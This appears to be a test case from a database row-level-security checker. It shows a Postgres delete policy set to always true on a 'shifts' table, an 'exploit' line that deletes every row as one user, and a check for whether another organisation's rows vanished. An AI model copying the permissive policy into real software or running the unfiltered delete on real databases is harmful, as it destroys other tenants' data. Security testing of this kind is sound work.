-- channel: blind write
-- object: public.shifts
-- says: The delete policy is true; the read policy hides it from every delete with a filter.
drop policy shifts_delete on public.shifts;
create policy shifts_delete on public.shifts for delete to authenticated using (true);
-- exploit as adam
delete from public.shifts;
-- leaks when not exists (select from public.shifts where org_id = :org_b)
